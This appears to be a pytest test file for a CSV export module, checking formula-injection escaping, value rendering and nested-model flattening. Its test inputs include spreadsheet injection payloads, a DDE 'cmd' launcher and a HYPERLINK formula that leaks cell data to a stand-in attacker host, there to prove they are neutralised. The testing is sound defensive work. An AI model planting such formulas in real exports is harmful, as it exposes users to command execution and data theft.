"""Cells that a spreadsheet would run are text, numbers are numbers, and what is read back is what was written."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import BaseModel

from api.cells import FORMULA, cell
from api.csv_export import columns, file, flat
from api.v1.schemas import MoneyOut


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\ufeff=1+1",
        "\u200b\u2060=1+1",
        "\x0b=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "﹢1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("https://evil.example?x="&A1,"Error")',
    ],
)
def test_a_cell_that_begins_a_formula_is_made_text(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (None, ""),
        ("", ""),
        ("acme", "acme"),
        ("a=b", "a=b"),
        ("'=1", "'=1"),
        (-5, "-5"),
        (2**53, "9007199254740992"),
        (True, "true"),
        (date(2026, 3, 2), "2026-03-02"),
        (datetime(2026, 3, 2, 9, 30, tzinfo=UTC), "2026-03-02T09:30:00Z"),
        ({"a": "=1"}, '{"a": "=1"}'),
    ],
)
def test_everything_else_is_shown_as_it_is(value: object, shown: str) -> None:
    assert cell(value) == shown


@given(
    st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=20), min_size=2, max_size=2))
)
def test_what_is_read_back_is_what_was_written_and_no_cell_runs(rows: list[list[str]]) -> None:
    body = bytes(file("x", ["a", "b"], rows).body)
    assert body.endswith(b"\r\n")
    read = list(csv.reader(io.StringIO(body.decode(), newline="")))
    assert read == [["a", "b"], *([cell(one) for one in row] for row in rows)]
    for row in read:
        for one in row:
            assert not one or one[0] not in FORMULA


class Leaf(BaseModel):
    code: str
    amount: MoneyOut | None


class Tree(BaseModel):
    name: str
    leaves: list[Leaf]
    total: int


def test_what_lies_within_is_dotted_and_a_list_gives_rows() -> None:
    assert columns(Tree) == ["name", "leaves.code", "leaves.amount.amount", "leaves.amount.currency", "total"]
    money = MoneyOut(amount=-5, currency="RWF")
    tree = Tree(name="t", leaves=[Leaf(code="a", amount=money), Leaf(code="b", amount=None)], total=1)
    assert list(flat(tree)) == [["t", "a", -5, "RWF", 1], ["t", "b", None, None, 1]]
    assert list(flat(Tree(name="t", leaves=[], total=1))) == [["t", None, None, None, 1]]
